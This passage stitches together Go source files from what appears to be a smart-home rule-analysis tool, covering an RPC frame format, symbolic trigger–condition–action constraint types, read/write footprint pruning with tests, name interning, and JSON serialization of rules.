// repository builds without third-party dependencies — so swapping in
// google.golang.org/grpc later is a transport-only change: the service
// core (Service), the status mapping (internal/api) and the breaker
// semantics all carry over unchanged.
//
// A connection starts with the 8-byte client preface "HGRPC/1\x00".
// Every frame thereafter is
//
//	[type:1][stream id:8 BE][payload length:4 BE][payload]
//
// with payloads capped at 4 MiB (the daemon's HTTP body cap). Frame
// types:
//
//	REQ (1) — opens stream id with {"method","deadlineMs","body"};
//	          unary methods carry the request in body, stream methods
//	          leave it empty.
//	MSG (2) — one JSON message on an open stream (client: requests;
//	          server: per-item results).
//	EOS (3) — half-close: the sender is done sending MSG frames.
//	RES (4) — terminates the stream with {"status","error","body"};
//	          unary responses carry the reply in body, streams use it
//	          as a trailer after their MSG frames.
//
// Stream ids are client-chosen, strictly increasing, and multiplex
// concurrent RPCs over one connection; writes are serialized by a
// per-connection mutex on each side.
package rpc

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"sync"

	"homeguard/internal/api"
)

// Frame types.
const (
	frameReq = 1 // open stream: header payload
	frameMsg = 2 // one streamed JSON message
	frameEOS = 3 // half-close by the sender
	frameRes = 4 // final status (+ unary body)
)

// Preface is the 8-byte string a client writes immediately after
// connecting.
const Preface = "HGRPC/1\x00"

// maxFrame caps frame payloads, mirroring the daemon's HTTP body cap.
const maxFrame = 4 << 20

// frame is one wire frame.
type frame struct {
	typ     byte
	id      uint64
	payload []byte
}

// reqHeader is the REQ frame payload: which method to invoke and the
// client's deadline for the whole RPC (0 = none; the server may still
// impose its own).
type reqHeader struct {
	Method     string          `json:"method"`
	DeadlineMs int64           `json:"deadlineMs,omitempty"`
	Body       json.RawMessage `json:"body,omitempty"`
}

// resPayload is the RES frame payload: the gRPC status number, the
// shared error envelope when Status != 0, and the unary response body.
type resPayload struct {
	Status int             `json:"status"`
	Error  *api.Error      `json:"error,omitempty"`
	Body   json.RawMessage `json:"body,omitempty"`
}

// streamItem wraps one per-item outcome on a response stream: exactly
// one of Result and Error is set, so a bad item reports its error
// without tearing down the stream.
type streamItem struct {
	Result json.RawMessage `json:"result,omitempty"`
	Error  *api.Error      `json:"error,omitempty"`
}

// readFrame reads one frame, rejecting oversized payloads.
func readFrame(r *bufio.Reader) (frame, error) {
	var hdr [13]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return frame{}, err
	}
	f := frame{typ: hdr[0], id: binary.BigEndian.Uint64(hdr[1:9])}
	n := binary.BigEndian.Uint32(hdr[9:13])
	if n > maxFrame {
		return frame{}, fmt.Errorf("rpc: frame of %d bytes exceeds the %d byte cap", n, maxFrame)
	}
	if n > 0 {
		f.payload = make([]byte, n)
		if _, err := io.ReadFull(r, f.payload); err != nil {
			return frame{}, err
		}
	}
	return f, nil
}

// frameWriter serializes frame writes from concurrent RPC handlers
// onto one connection.
type frameWriter struct {
	mu sync.Mutex
	w  *bufio.Writer
}

// write emits one frame and flushes. Flushing per frame keeps
// streaming interactive; the bufio layer still coalesces header and
// payload into one syscall.
func (fw *frameWriter) write(typ byte, id uint64, payload []byte) error {
	if len(payload) > maxFrame {
		return fmt.Errorf("rpc: frame of %d bytes exceeds the %d byte cap", len(payload), maxFrame)
	}
	var hdr [13]byte
	hdr[0] = typ
	binary.BigEndian.PutUint64(hdr[1:9], id)
	binary.BigEndian.PutUint32(hdr[9:13], uint32(len(payload)))
	fw.mu.Lock()
	defer fw.mu.Unlock()
	if _, err := fw.w.Write(hdr[:]); err != nil {
		return err
	}
	if _, err := fw.w.Write(payload); err != nil {
		return err
	}
	return fw.w.Flush()
}

// writeJSON marshals v and writes it as a frame of the given type.
func (fw *frameWriter) writeJSON(typ byte, id uint64, v any) error {
	b, err := json.Marshal(v)
	if err != nil {
		return err
	}
	return fw.write(typ, id, b)
}
