// Package rule defines the automation-rule representation extracted from
// IoT apps (the paper's Listing 2): trigger–condition–action tuples whose
// constraints are quantifier-free first-order formulas over symbolic
// variables (device attributes, user inputs, environment features).
package rule

import (
	"fmt"
	"sort"
	"strings"
)

// VarKind classifies a symbolic variable by its source.
type VarKind string

// Variable kinds.
const (
	VarDeviceAttr VarKind = "device" // e.g. tv1.switch — a device attribute (symbolic input #DevState)
	VarUserInput  VarKind = "input"  // e.g. threshold1 — configured at install time
	VarEnvFeature VarKind = "env"    // e.g. env.time — environment measurement
	VarLocal      VarKind = "local"  // app-local variable bound by a data constraint
	VarState      VarKind = "state"  // SmartApp state.* storage
	VarEvent      VarKind = "event"  // the triggering event's value
)

// ValueType is the domain type of a term.
type ValueType string

// Value types.
const (
	TypeInt    ValueType = "int"
	TypeString ValueType = "string" // finite enumeration (e.g. on/off)
	TypeBool   ValueType = "bool"
)

// Term is a symbolic term: a variable or a constant.
type Term interface {
	isTerm()
	String() string
}

// Var is a symbolic variable.
type Var struct {
	Name string // canonical name, e.g. "tv1.switch", "threshold1", "env.temperature"
	Kind VarKind
	Type ValueType
}

// IntVal is an integer constant.
type IntVal int64

// StrVal is a string (enumeration) constant such as "on".
type StrVal string

// BoolVal is a boolean constant.
type BoolVal bool

func (Var) isTerm()     {}
func (IntVal) isTerm()  {}
func (StrVal) isTerm()  {}
func (BoolVal) isTerm() {}

func (v Var) String() string     { return v.Name }
func (v IntVal) String() string  { return fmt.Sprintf("%d", int64(v)) }
func (v StrVal) String() string  { return fmt.Sprintf("%q", string(v)) }
func (v BoolVal) String() string { return fmt.Sprintf("%t", bool(v)) }

// CmpOp is a comparison operator.
type CmpOp string

// Comparison operators.
const (
	OpEq CmpOp = "=="
	OpNe CmpOp = "!="
	OpLt CmpOp = "<"
	OpLe CmpOp = "<="
	OpGt CmpOp = ">"
	OpGe CmpOp = ">="
)

// Negate returns the complementary operator.
func (op CmpOp) Negate() CmpOp {
	switch op {
	case OpEq:
		return OpNe
	case OpNe:
		return OpEq
	case OpLt:
		return OpGe
	case OpLe:
		return OpGt
	case OpGt:
		return OpLe
	case OpGe:
		return OpLt
	}
	return op
}

// Flip returns the operator with operands swapped (a op b ⇔ b flip(op) a).
func (op CmpOp) Flip() CmpOp {
	switch op {
	case OpLt:
		return OpGt
	case OpLe:
		return OpGe
	case OpGt:
		return OpLt
	case OpGe:
		return OpLe
	}
	return op
}

// Constraint is a quantifier-free first-order formula.
type Constraint interface {
	isConstraint()
	String() string
}

// Cmp is an atomic comparison L op R.
type Cmp struct {
	Op   CmpOp
	L, R Term
}

// And is a conjunction.
type And struct{ Cs []Constraint }

// Or is a disjunction.
type Or struct{ Cs []Constraint }

// Not is a negation.
type Not struct{ C Constraint }

// Lit is a constant truth value.
type Lit bool

// TrueC and FalseC are the constant formulas.
var (
	TrueC  = Lit(true)
	FalseC = Lit(false)
)

func (Cmp) isConstraint() {}
func (And) isConstraint() {}
func (Or) isConstraint()  {}
func (Not) isConstraint() {}
func (Lit) isConstraint() {}

func (c Cmp) String() string { return fmt.Sprintf("%s %s %s", c.L, c.Op, c.R) }

func (c And) String() string {
	if len(c.Cs) == 0 {
		return "true"
	}
	parts := make([]string, len(c.Cs))
	for i, sub := range c.Cs {
		parts[i] = sub.String()
	}
	return "(" + strings.Join(parts, " && ") + ")"
}

func (c Or) String() string {
	if len(c.Cs) == 0 {
		return "false"
	}
	parts := make([]string, len(c.Cs))
	for i, sub := range c.Cs {
		parts[i] = sub.String()
	}
	return "(" + strings.Join(parts, " || ") + ")"
}

func (c Not) String() string { return "!(" + c.C.String() + ")" }

func (c Lit) String() string {
	if bool(c) {
		return "true"
	}
	return "false"
}

// Conj builds a conjunction, flattening nested Ands and dropping
// true-literals. It returns TrueC for an empty conjunction and FalseC if
// any conjunct is the false literal.
func Conj(cs ...Constraint) Constraint {
	var flat []Constraint
	for _, c := range cs {
		switch x := c.(type) {
		case nil:
			continue
		case Lit:
			if !bool(x) {
				return FalseC
			}
		case And:
			flat = append(flat, x.Cs...)
		default:
			flat = append(flat, c)
		}
	}
	switch len(flat) {
	case 0:
		return TrueC
	case 1:
		return flat[0]
	}
	return And{Cs: flat}
}

// Disj builds a disjunction, flattening nested Ors and dropping
// false-literals.
func Disj(cs ...Constraint) Constraint {
	var flat []Constraint
	for _, c := range cs {
		switch x := c.(type) {
		case nil:
			continue
		case Lit:
			if bool(x) {
				return TrueC
			}
		case Or:
			flat = append(flat, x.Cs...)
		default:
			flat = append(flat, c)
		}
	}
	switch len(flat) {
	case 0:
		return FalseC
	case 1:
		return flat[0]
	}
	return Or{Cs: flat}
}

// Negate returns the logical negation of c, pushed through one level.
func Negate(c Constraint) Constraint {
	switch x := c.(type) {
	case Lit:
		return Lit(!bool(x))
	case Cmp:
		return Cmp{Op: x.Op.Negate(), L: x.L, R: x.R}
	case Not:
		return x.C
	case And:
		neg := make([]Constraint, len(x.Cs))
		for i, sub := range x.Cs {
			neg[i] = Negate(sub)
		}
		return Disj(neg...)
	case Or:
		neg := make([]Constraint, len(x.Cs))
		for i, sub := range x.Cs {
			neg[i] = Negate(sub)
		}
		return Conj(neg...)
	}
	return Not{C: c}
}

// Vars returns the set of variable names referenced by c, sorted.
func Vars(c Constraint) []string {
	set := map[string]bool{}
	collectVars(c, set)
	out := make([]string, 0, len(set))
	for v := range set {
		out = append(out, v)
	}
	sort.Strings(out)
	return out
}

func collectVars(c Constraint, set map[string]bool) {
	switch x := c.(type) {
	case Cmp:
		if v, ok := x.L.(Var); ok {
			set[v.Name] = true
		}
		if v, ok := x.R.(Var); ok {
			set[v.Name] = true
		}
	case And:
		for _, sub := range x.Cs {
			collectVars(sub, set)
		}
	case Or:
		for _, sub := range x.Cs {
			collectVars(sub, set)
		}
	case Not:
		collectVars(x.C, set)
	}
}

// MentionsEventVar reports whether c references the event variable named
// name (Kind VarEvent) as a direct comparison operand — the same variables
// VarSet would report, checked without allocating (this runs once per
// path conjunct of every extracted rule).
func MentionsEventVar(c Constraint, name string) bool {
	switch x := c.(type) {
	case Cmp:
		if v, ok := x.L.(Var); ok && v.Kind == VarEvent && v.Name == name {
			return true
		}
		if v, ok := x.R.(Var); ok && v.Kind == VarEvent && v.Name == name {
			return true
		}
	case And:
		for _, sub := range x.Cs {
			if MentionsEventVar(sub, name) {
				return true
			}
		}
	case Or:
		for _, sub := range x.Cs {
			if MentionsEventVar(sub, name) {
				return true
			}
		}
	case Not:
		return MentionsEventVar(x.C, name)
	}
	return false
}

// VarSet returns the variables (with kind/type metadata) referenced by c,
// keyed by name.
func VarSet(c Constraint) map[string]Var {
	out := map[string]Var{}
	collectVarSet(c, out)
	return out
}

func collectVarSet(c Constraint, out map[string]Var) {
	switch x := c.(type) {
	case Cmp:
		if v, ok := x.L.(Var); ok {
			out[v.Name] = v
		}
		if v, ok := x.R.(Var); ok {
			out[v.Name] = v
		}
	case And:
		for _, sub := range x.Cs {
			collectVarSet(sub, out)
		}
	case Or:
		for _, sub := range x.Cs {
			collectVarSet(sub, out)
		}
	case Not:
		collectVarSet(x.C, out)
	}
}

// Substitute returns c with every occurrence of variables found in bind
// replaced by the bound term. Substitution is applied repeatedly (up to a
// small depth) so chains like t -> tSensor.temperature resolve fully.
func Substitute(c Constraint, bind map[string]Term) Constraint {
	if len(bind) == 0 {
		return c
	}
	for i := 0; i < 8; i++ {
		next, changed := substituteOnce(c, bind)
		c = next
		if !changed {
			break
		}
	}
	return c
}

func substituteOnce(c Constraint, bind map[string]Term) (Constraint, bool) {
	switch x := c.(type) {
	case Cmp:
		l, lc := substTerm(x.L, bind)
		r, rc := substTerm(x.R, bind)
		if lc || rc {
			return Cmp{Op: x.Op, L: l, R: r}, true
		}
		return x, false
	case And:
		out := make([]Constraint, len(x.Cs))
		changed := false
		for i, sub := range x.Cs {
			s, ch := substituteOnce(sub, bind)
			out[i] = s
			changed = changed || ch
		}
		if changed {
			return And{Cs: out}, true
		}
		return x, false
	case Or:
		out := make([]Constraint, len(x.Cs))
		changed := false
		for i, sub := range x.Cs {
			s, ch := substituteOnce(sub, bind)
			out[i] = s
			changed = changed || ch
		}
		if changed {
			return Or{Cs: out}, true
		}
		return x, false
	case Not:
		s, ch := substituteOnce(x.C, bind)
		if ch {
			return Not{C: s}, true
		}
		return x, false
	}
	return c, false
}

func substTerm(t Term, bind map[string]Term) (Term, bool) {
	v, ok := t.(Var)
	if !ok {
		return t, false
	}
	if b, ok := bind[v.Name]; ok {
		return b, true
	}
	return t, false
}

// RenameVars returns c with variable names rewritten by rename. Variables
// not present in the map are kept. Kind and type are preserved.
func RenameVars(c Constraint, rename func(Var) Var) Constraint {
	switch x := c.(type) {
	case Cmp:
		l := x.L
		if v, ok := l.(Var); ok {
			l = rename(v)
		}
		r := x.R
		if v, ok := r.(Var); ok {
			r = rename(v)
		}
		return Cmp{Op: x.Op, L: l, R: r}
	case And:
		out := make([]Constraint, len(x.Cs))
		for i, sub := range x.Cs {
			out[i] = RenameVars(sub, rename)
		}
		return And{Cs: out}
	case Or:
		out := make([]Constraint, len(x.Cs))
		for i, sub := range x.Cs {
			out[i] = RenameVars(sub, rename)
		}
		return Or{Cs: out}
	case Not:
		return Not{C: RenameVars(x.C, rename)}
	}
	return c
}
