package rule

import (
	"sort"
	"strings"
)

// Footprint is the read/write footprint of one app's rule set over
// canonical names: the variables its triggers and conditions read and the
// variables (device attributes, modes, environment properties) its actions
// write. Names are opaque strings — the detector supplies canonical
// device-attribute names plus namespaced environment-property keys — so
// the type stays independent of the detection layer.
//
// The footprint powers pair pruning: every CAI detection in Table I needs
// a channel in which one rule's action writes something the other rule
// reads or writes (a shared actuator attribute for AR, a shared goal
// property for GC, a written trigger/condition variable or sensed property
// for CT/SD/LT/EC/DC). When neither app's write set intersects the other
// app's read∪write set, no such channel exists and the solver-heavy pair
// analysis can be skipped without changing findings.
type Footprint struct {
	// Reads holds the canonical names the rule set's triggers and
	// conditions observe (including environment-property keys derived from
	// sensed attributes).
	Reads map[string]struct{}
	// Writes holds the canonical names the rule set's actions modify
	// (device attributes, location mode, environment-property keys).
	Writes map[string]struct{}
}

// NewFootprint returns an empty footprint.
func NewFootprint() *Footprint {
	return &Footprint{Reads: map[string]struct{}{}, Writes: map[string]struct{}{}}
}

// AddRead records a name observed by a trigger or condition.
func (f *Footprint) AddRead(name string) { f.Reads[name] = struct{}{} }

// AddWrite records a name modified by an action.
func (f *Footprint) AddWrite(name string) { f.Writes[name] = struct{}{} }

// SharesChannel reports whether an interference channel can exist between
// the two rule sets: some name one side writes that the other side reads
// or writes. When false, the pair provably has no Actuator-Race,
// Goal-Conflict, Trigger-Interference or Condition-Interference threat
// (each of those requires exactly such a written-and-shared name), so
// detection may prune the pair.
func (f *Footprint) SharesChannel(g *Footprint) bool {
	if f == nil || g == nil {
		// An unknown footprint can't justify pruning.
		return true
	}
	return writesTouch(f.Writes, g) || writesTouch(g.Writes, f)
}

func writesTouch(writes map[string]struct{}, g *Footprint) bool {
	for w := range writes {
		if _, ok := g.Reads[w]; ok {
			return true
		}
		if _, ok := g.Writes[w]; ok {
			return true
		}
	}
	return false
}

// String renders the footprint with sorted names (debugging and tests).
func (f *Footprint) String() string {
	return "reads{" + joinSorted(f.Reads) + "} writes{" + joinSorted(f.Writes) + "}"
}

func joinSorted(set map[string]struct{}) string {
	names := make([]string, 0, len(set))
	for n := range set {
		names = append(names, n)
	}
	sort.Strings(names)
	return strings.Join(names, ", ")
}
