package rule

import "testing"

func fpOf(reads, writes []string) *Footprint {
	fp := NewFootprint()
	for _, r := range reads {
		fp.AddRead(r)
	}
	for _, w := range writes {
		fp.AddWrite(w)
	}
	return fp
}

// TestSharesChannel enumerates the channel cases of Table I: a channel
// needs a name one side writes that the other reads or writes; read-read
// overlap alone is not one.
func TestSharesChannel(t *testing.T) {
	cases := []struct {
		name string
		a, b *Footprint
		want bool
	}{
		{
			name: "disjoint",
			a:    fpOf([]string{"x.motion"}, []string{"y.switch"}),
			b:    fpOf([]string{"z.temperature"}, []string{"w.lock"}),
			want: false,
		},
		{
			name: "write-write (AR/GC channel)",
			a:    fpOf(nil, []string{"win.switch"}),
			b:    fpOf(nil, []string{"win.switch"}),
			want: true,
		},
		{
			name: "a writes what b reads (CT/EC channel)",
			a:    fpOf(nil, []string{"tv.switch"}),
			b:    fpOf([]string{"tv.switch"}, []string{"win.switch"}),
			want: true,
		},
		{
			name: "b writes what a reads (direction-symmetric)",
			a:    fpOf([]string{"tv.switch"}, []string{"win.switch"}),
			b:    fpOf(nil, []string{"tv.switch"}),
			want: true,
		},
		{
			name: "read-read overlap only is no channel",
			a:    fpOf([]string{"sensor.temperature"}, []string{"a.switch"}),
			b:    fpOf([]string{"sensor.temperature"}, []string{"b.switch"}),
			want: false,
		},
		{
			name: "empty footprints",
			a:    NewFootprint(),
			b:    NewFootprint(),
			want: false,
		},
	}
	for _, tc := range cases {
		if got := tc.a.SharesChannel(tc.b); got != tc.want {
			t.Errorf("%s: SharesChannel = %v, want %v (a=%s b=%s)",
				tc.name, got, tc.want, tc.a, tc.b)
		}
		// The relation is symmetric by construction.
		if got := tc.b.SharesChannel(tc.a); got != tc.want {
			t.Errorf("%s (swapped): SharesChannel = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// TestSharesChannelNil: an unknown footprint can never justify pruning.
func TestSharesChannelNil(t *testing.T) {
	fp := fpOf([]string{"r"}, []string{"w"})
	if !fp.SharesChannel(nil) || !(*Footprint)(nil).SharesChannel(fp) {
		t.Error("nil footprints must conservatively report a shared channel")
	}
}

func TestFootprintString(t *testing.T) {
	fp := fpOf([]string{"b.motion", "a.switch"}, []string{"c.lock"})
	want := "reads{a.switch, b.motion} writes{c.lock}"
	if got := fp.String(); got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}
