package rule

import "sync"

// A process-wide intern table for the canonical variable names that both
// the symbolic executor and the detect compile step construct by joining
// two parts ("<subject>.<attribute>", "<app>!<input>", "<device>.<attr>").
// These names are built on every evaluation of every path of every
// extraction and every per-pair canonicalization; interning makes the
// repeat constructions allocation-free and gives equal names one shared
// backing string across both layers.
//
// The table is keyed two-level so a lookup never has to concatenate: the
// joined string is built only on first sight of a pair. It grows with the
// number of distinct (part, part) pairs — bounded by the app catalog's
// device/attribute vocabulary, not by traffic — so no eviction is needed.
var internTab = struct {
	sync.RWMutex
	dot  map[string]map[string]string // a.b
	bang map[string]map[string]string // a!b
}{
	dot:  map[string]map[string]string{},
	bang: map[string]map[string]string{},
}

// InternDotted returns the canonical "a.b" string, allocating only the
// first time a pair is seen.
func InternDotted(a, b string) string { return internJoin(a, b, '.') }

// InternBanged returns the canonical "a!b" string (the app-qualified
// input-variable form used by canonicalization), allocating only the
// first time a pair is seen.
func InternBanged(a, b string) string { return internJoin(a, b, '!') }

func internJoin(a, b string, sep byte) string {
	tab := internTab.dot
	if sep == '!' {
		tab = internTab.bang
	}
	internTab.RLock()
	if m := tab[a]; m != nil {
		if s, ok := m[b]; ok {
			internTab.RUnlock()
			return s
		}
	}
	internTab.RUnlock()

	joined := a + string(sep) + b
	internTab.Lock()
	m := tab[a]
	if m == nil {
		m = map[string]string{}
		tab[a] = m
	}
	if s, ok := m[b]; ok {
		joined = s
	} else {
		m[b] = joined
	}
	internTab.Unlock()
	return joined
}
