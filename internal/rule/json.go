package rule

import (
	"encoding/json"
	"fmt"
)

// The wire formats below use explicit type tags so rule files are stable,
// diff-friendly JSON — the paper stores extracted rules as JSON strings on
// the HomeGuard backend (≈6.2 KB per app).

type termJSON struct {
	T    string    `json:"t"` // var | int | str | bool | sum
	Name string    `json:"name,omitempty"`
	Kind VarKind   `json:"kind,omitempty"`
	Type ValueType `json:"type,omitempty"`
	Int  int64     `json:"int,omitempty"`
	Str  string    `json:"str,omitempty"`
	Bool bool      `json:"bool,omitempty"`
	K    int64     `json:"k,omitempty"`
	X    *termJSON `json:"x,omitempty"`
}

func termToJSON(t Term) *termJSON {
	switch v := t.(type) {
	case Var:
		return &termJSON{T: "var", Name: v.Name, Kind: v.Kind, Type: v.Type}
	case IntVal:
		return &termJSON{T: "int", Int: int64(v)}
	case StrVal:
		return &termJSON{T: "str", Str: string(v)}
	case BoolVal:
		return &termJSON{T: "bool", Bool: bool(v)}
	case Sum:
		return &termJSON{T: "sum", K: v.K, X: termToJSON(v.X)}
	case nil:
		return nil
	}
	panic(fmt.Sprintf("rule: unknown term type %T", t))
}

func termFromJSON(j *termJSON) (Term, error) {
	if j == nil {
		return nil, nil
	}
	switch j.T {
	case "var":
		return Var{Name: j.Name, Kind: j.Kind, Type: j.Type}, nil
	case "int":
		return IntVal(j.Int), nil
	case "str":
		return StrVal(j.Str), nil
	case "bool":
		return BoolVal(j.Bool), nil
	case "sum":
		x, err := termFromJSON(j.X)
		if err != nil {
			return nil, err
		}
		v, ok := x.(Var)
		if !ok {
			return nil, fmt.Errorf("rule: sum term base must be a var")
		}
		return Sum{X: v, K: j.K}, nil
	}
	return nil, fmt.Errorf("rule: unknown term tag %q", j.T)
}

type constraintJSON struct {
	T   string            `json:"t"` // cmp | and | or | not | lit
	Op  CmpOp             `json:"op,omitempty"`
	L   *termJSON         `json:"l,omitempty"`
	R   *termJSON         `json:"r,omitempty"`
	Cs  []*constraintJSON `json:"cs,omitempty"`
	C   *constraintJSON   `json:"c,omitempty"`
	Lit bool              `json:"lit,omitempty"`
}

func constraintToJSON(c Constraint) *constraintJSON {
	switch x := c.(type) {
	case nil:
		return nil
	case Cmp:
		return &constraintJSON{T: "cmp", Op: x.Op, L: termToJSON(x.L), R: termToJSON(x.R)}
	case And:
		out := &constraintJSON{T: "and"}
		for _, sub := range x.Cs {
			out.Cs = append(out.Cs, constraintToJSON(sub))
		}
		return out
	case Or:
		out := &constraintJSON{T: "or"}
		for _, sub := range x.Cs {
			out.Cs = append(out.Cs, constraintToJSON(sub))
		}
		return out
	case Not:
		return &constraintJSON{T: "not", C: constraintToJSON(x.C)}
	case Lit:
		return &constraintJSON{T: "lit", Lit: bool(x)}
	}
	panic(fmt.Sprintf("rule: unknown constraint type %T", c))
}

func constraintFromJSON(j *constraintJSON) (Constraint, error) {
	if j == nil {
		return nil, nil
	}
	switch j.T {
	case "cmp":
		l, err := termFromJSON(j.L)
		if err != nil {
			return nil, err
		}
		r, err := termFromJSON(j.R)
		if err != nil {
			return nil, err
		}
		return Cmp{Op: j.Op, L: l, R: r}, nil
	case "and":
		var cs []Constraint
		for _, sub := range j.Cs {
			c, err := constraintFromJSON(sub)
			if err != nil {
				return nil, err
			}
			cs = append(cs, c)
		}
		return And{Cs: cs}, nil
	case "or":
		var cs []Constraint
		for _, sub := range j.Cs {
			c, err := constraintFromJSON(sub)
			if err != nil {
				return nil, err
			}
			cs = append(cs, c)
		}
		return Or{Cs: cs}, nil
	case "not":
		c, err := constraintFromJSON(j.C)
		if err != nil {
			return nil, err
		}
		return Not{C: c}, nil
	case "lit":
		return Lit(j.Lit), nil
	}
	return nil, fmt.Errorf("rule: unknown constraint tag %q", j.T)
}

type dataConstraintJSON struct {
	Var  string    `json:"var"`
	Term *termJSON `json:"term"`
}

type triggerJSON struct {
	Subject    string          `json:"subject"`
	Attribute  string          `json:"attribute"`
	Capability string          `json:"capability,omitempty"`
	Constraint *constraintJSON `json:"constraint,omitempty"`
}

type conditionJSON struct {
	Data       []dataConstraintJSON `json:"data,omitempty"`
	Predicates []*constraintJSON    `json:"predicates,omitempty"`
}

type actionJSON struct {
	Subject    string            `json:"subject"`
	Capability string            `json:"capability,omitempty"`
	Command    string            `json:"command"`
	Params     []*termJSON       `json:"params,omitempty"`
	Data       []*constraintJSON `json:"data,omitempty"`
	When       int               `json:"when,omitempty"`
	Period     int               `json:"period,omitempty"`
}

type ruleJSON struct {
	App       string        `json:"app"`
	ID        string        `json:"id"`
	Trigger   triggerJSON   `json:"trigger"`
	Condition conditionJSON `json:"condition"`
	Action    actionJSON    `json:"action"`
}

// MarshalJSON implements json.Marshaler.
func (r *Rule) MarshalJSON() ([]byte, error) {
	out := ruleJSON{
		App: r.App,
		ID:  r.ID,
		Trigger: triggerJSON{
			Subject:    r.Trigger.Subject,
			Attribute:  r.Trigger.Attribute,
			Capability: r.Trigger.Capability,
			Constraint: constraintToJSON(r.Trigger.Constraint),
		},
		Action: actionJSON{
			Subject:    r.Action.Subject,
			Capability: r.Action.Capability,
			Command:    r.Action.Command,
			When:       r.Action.When,
			Period:     r.Action.Period,
		},
	}
	for _, d := range r.Condition.Data {
		out.Condition.Data = append(out.Condition.Data,
			dataConstraintJSON{Var: d.Var, Term: termToJSON(d.Term)})
	}
	for _, p := range r.Condition.Predicates {
		out.Condition.Predicates = append(out.Condition.Predicates, constraintToJSON(p))
	}
	for _, p := range r.Action.Params {
		out.Action.Params = append(out.Action.Params, termToJSON(p))
	}
	for _, d := range r.Action.Data {
		out.Action.Data = append(out.Action.Data, constraintToJSON(d))
	}
	return json.Marshal(out)
}

// UnmarshalJSON implements json.Unmarshaler.
func (r *Rule) UnmarshalJSON(b []byte) error {
	var in ruleJSON
	if err := json.Unmarshal(b, &in); err != nil {
		return err
	}
	tc, err := constraintFromJSON(in.Trigger.Constraint)
	if err != nil {
		return err
	}
	r.App = in.App
	r.ID = in.ID
	r.Trigger = Trigger{
		Subject:    in.Trigger.Subject,
		Attribute:  in.Trigger.Attribute,
		Capability: in.Trigger.Capability,
		Constraint: tc,
	}
	r.Condition = Condition{}
	for _, d := range in.Condition.Data {
		t, err := termFromJSON(d.Term)
		if err != nil {
			return err
		}
		r.Condition.Data = append(r.Condition.Data, DataConstraint{Var: d.Var, Term: t})
	}
	for _, p := range in.Condition.Predicates {
		c, err := constraintFromJSON(p)
		if err != nil {
			return err
		}
		r.Condition.Predicates = append(r.Condition.Predicates, c)
	}
	r.Action = Action{
		Subject:    in.Action.Subject,
		Capability: in.Action.Capability,
		Command:    in.Action.Command,
		When:       in.Action.When,
		Period:     in.Action.Period,
	}
	for _, p := range in.Action.Params {
		t, err := termFromJSON(p)
		if err != nil {
			return err
		}
		r.Action.Params = append(r.Action.Params, t)
	}
	for _, d := range in.Action.Data {
		c, err := constraintFromJSON(d)
		if err != nil {
			return err
		}
		r.Action.Data = append(r.Action.Data, c)
	}
	return nil
}

// MarshalTerm serializes one term in the tagged wire format (nil terms
// marshal to JSON null). The extraction-cache snapshot uses it for input
// default values, which are Terms behind an interface and therefore not
// round-trippable by plain encoding/json.
func MarshalTerm(t Term) ([]byte, error) {
	return json.Marshal(termToJSON(t))
}

// UnmarshalTerm parses a term produced by MarshalTerm (JSON null yields a
// nil term).
func UnmarshalTerm(b []byte) (Term, error) {
	var j *termJSON
	if err := json.Unmarshal(b, &j); err != nil {
		return nil, err
	}
	return termFromJSON(j)
}

// MarshalRuleSet serializes a rule set to indented JSON (the on-server
// "rule file" format).
func MarshalRuleSet(rs *RuleSet) ([]byte, error) {
	return json.MarshalIndent(struct {
		App   string  `json:"app"`
		Rules []*Rule `json:"rules"`
	}{App: rs.App, Rules: rs.Rules}, "", "  ")
}

// UnmarshalRuleSet parses a rule file produced by MarshalRuleSet.
func UnmarshalRuleSet(b []byte) (*RuleSet, error) {
	var in struct {
		App   string  `json:"app"`
		Rules []*Rule `json:"rules"`
	}
	if err := json.Unmarshal(b, &in); err != nil {
		return nil, err
	}
	return &RuleSet{App: in.App, Rules: in.Rules}, nil
}
