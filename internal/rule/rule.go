package rule

import (
	"fmt"
	"strings"
)

// Sum is the linear term X + K (K may be negative). It appears when an app
// computes a threshold arithmetically, e.g. `t > threshold - 5`.
type Sum struct {
	X Var
	K int64
}

func (Sum) isTerm() {}

func (s Sum) String() string {
	if s.K < 0 {
		return fmt.Sprintf("%s - %d", s.X.Name, -s.K)
	}
	return fmt.Sprintf("%s + %d", s.X.Name, s.K)
}

// DataConstraint records how a local variable is assigned a value along an
// execution path, e.g. t = tSensor.temperature.
type DataConstraint struct {
	Var  string
	Term Term
}

func (d DataConstraint) String() string { return fmt.Sprintf("%s = %s", d.Var, d.Term) }

// Trigger is the event that fires a rule.
type Trigger struct {
	// Subject is the subscribed entity: a device reference name (e.g.
	// "tv1"), "location" for mode events, "app" for app-touch, or "time"
	// for scheduled rules.
	Subject string
	// Attribute is the subscribed attribute (e.g. "switch", "mode").
	// For scheduled rules it is "schedule".
	Attribute string
	// Capability is the capability through which Subject was granted
	// (e.g. "switch", "temperatureMeasurement"); empty for non-device
	// subjects.
	Capability string
	// Constraint restricts the event value (e.g. tv1.switch == "on").
	// nil means the rule fires on any state change of the attribute.
	Constraint Constraint
}

// AnyChange reports whether the trigger fires on any value change.
func (t Trigger) AnyChange() bool { return t.Constraint == nil }

// EventVar is the canonical variable that holds the triggering attribute's
// value, e.g. "tv1.switch".
func (t Trigger) EventVar() string { return t.Subject + "." + t.Attribute }

func (t Trigger) String() string {
	s := fmt.Sprintf("(%s).(%s)", t.Subject, t.Attribute)
	if t.Constraint != nil {
		s += " where " + t.Constraint.String()
	}
	return s
}

// Condition is the set of constraints that must hold to take the action.
type Condition struct {
	Data       []DataConstraint
	Predicates []Constraint // conjunction; empty means always satisfied
}

// Formula returns the condition's predicates as one conjunction with data
// constraints substituted in, so the formula ranges only over device
// attributes, user inputs and environment features.
func (c Condition) Formula() Constraint {
	conj := Conj(c.Predicates...)
	bind := map[string]Term{}
	for _, d := range c.Data {
		bind[d.Var] = d.Term
	}
	return Substitute(conj, bind)
}

// Always reports whether the condition holds unconditionally.
func (c Condition) Always() bool { return len(c.Predicates) == 0 }

func (c Condition) String() string {
	var parts []string
	for _, d := range c.Data {
		parts = append(parts, d.String())
	}
	for _, p := range c.Predicates {
		parts = append(parts, p.String())
	}
	if len(parts) == 0 {
		return "true"
	}
	return strings.Join(parts, " && ")
}

// Action is a command issued to an actuator (or a sensitive platform API).
type Action struct {
	// Subject is the target device reference name; for platform APIs such
	// as setLocationMode it is "location"; for messaging sinks it is the
